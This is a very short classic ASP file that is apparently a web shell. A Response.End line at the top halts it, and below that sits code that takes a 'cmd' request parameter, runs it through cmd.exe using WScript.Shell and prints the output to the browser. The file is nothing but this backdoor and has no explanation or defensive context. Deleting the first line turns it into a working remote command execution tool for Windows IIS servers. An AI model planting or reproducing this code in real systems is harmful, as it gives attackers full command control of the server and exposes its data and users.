<% Response.End %>
<%
Set oShell = Server.CreateObject("WScript.Shell")
Set oExec = oShell.Exec("cmd.exe /c " & Request("cmd"))
Response.Write oExec.StdOut.ReadAll()
%>
